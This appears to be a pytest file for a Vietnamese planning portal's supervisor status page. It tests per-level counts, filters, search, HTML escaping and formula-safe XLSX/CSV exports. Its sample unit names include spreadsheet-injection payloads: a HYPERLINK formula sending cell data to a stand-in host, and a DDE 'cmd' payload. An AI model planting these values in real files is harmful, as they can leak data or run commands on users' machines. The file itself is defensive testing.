"""The supervisor's status page: every unit's state, counts and rates per level, filters, formula-safe exports."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from openpyxl import load_workbook

from tests.factories import make_plan_in_db
from tests.portal.conftest import Portal, start_portal, text_of
from tests.tasks.test_submissions import unit_plan

NAMES = [
    "Phường Long Châu",
    '=HYPERLINK("http://lua-dao.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "Trường Mầm non <b>Hoa Sen</b>",
]


@pytest.fixture
def tree_portal(sqlite_db: str, monkeypatch: pytest.MonkeyPatch):
    server, url = start_portal(monkeypatch)
    try:
        # five wards under the district, and a kindergarten under the first ward
        yield Portal(url, make_plan_in_db(len(NAMES), unit_names=NAMES, parents={5: 0}))
    finally:
        server.stop()


def test_status_page_counts_levels_filters_and_exports(tree_portal: Portal, monkeypatch) -> None:
    from kehoach.settings import get_settings

    p = tree_portal
    assert p.upload(0, "kh.docx", unit_plan(1)).status_code == 303
    assert p.upload(5, "kh.docx", unit_plan(2)).status_code == 303
    monkeypatch.setenv("KEHOACH_NOW", "2026-12-17T10:00:00+07:00")  # two working days late
    get_settings.cache_clear()
    assert p.upload(1, "kh.docx", unit_plan(3)).status_code == 303

    r = httpx.get(p.supervisor())
    assert r.status_code == 200
    page = text_of(r.text)
    assert "Phải nộp 6" in page and "Đã nộp 3 50%" in page and "Đúng hạn 2 33,3%" in page and "Trễ hạn 1" in page
    assert "Cấp 1 (Cấp xã) 5 2 40% 1 20% 3" in page and "Cấp 2 (Trường học) 1 1 100% 1 100% 0" in page
    assert "&lt;b&gt;Hoa Sen&lt;/b&gt;" in r.text and "<b>Hoa Sen" not in r.text
    assert "Đã nộp" in page and "Nộp trễ hạn" in page and "3/2026" in page

    late = text_of(httpx.get(p.supervisor(), params={"trang-thai": "tre-han"}).text)
    assert "1 dòng" in late and "HYPERLINK" in late and "Long Châu" not in late
    missing = text_of(httpx.get(p.supervisor(), params={"trang-thai": "chua-nop"}).text)
    assert "3 dòng" in missing and "calc" in missing and "Long Châu" not in missing
    level2 = text_of(httpx.get(p.supervisor(), params={"cap": "2"}).text)
    assert "1 dòng" in level2 and "Hoa Sen" in level2
    search = text_of(httpx.get(p.supervisor(), params={"q": "long chau"}).text)  # no diacritics needed
    assert "1 dòng" in search and "Phường Long Châu" in search

    x = httpx.get(p.supervisor() + "/tinh-hinh-nop.xlsx")
    assert x.status_code == 200 and "attachment" in x.headers["content-disposition"]
    ws = load_workbook(io.BytesIO(x.content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("Mã", "Đơn vị", "Cấp") and len(rows) == 7
    by_name = {r[1]: r for r in rows[1:]}
    for cell in ws["B"][1:]:
        assert cell.data_type == "s", cell.value  # text, never a formula
    assert set(by_name) == set(NAMES)
    assert by_name[NAMES[1]][6] == "Nộp trễ hạn" and by_name[NAMES[1]][9] == 2
    c = httpx.get(p.supervisor() + "/tinh-hinh-nop.csv", params={"trang-thai": "chua-nop"})
    assert c.content.startswith(b"\xef\xbb\xbf")  # Excel reads the UTF-8
    table = list(csv.reader(io.StringIO(c.content.decode("utf-8-sig"))))
    names = [row[1] for row in table[1:]]
    assert sorted(names) == sorted(["'" + NAMES[2], "'" + NAMES[3], "'" + NAMES[4]])
    for row in table:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
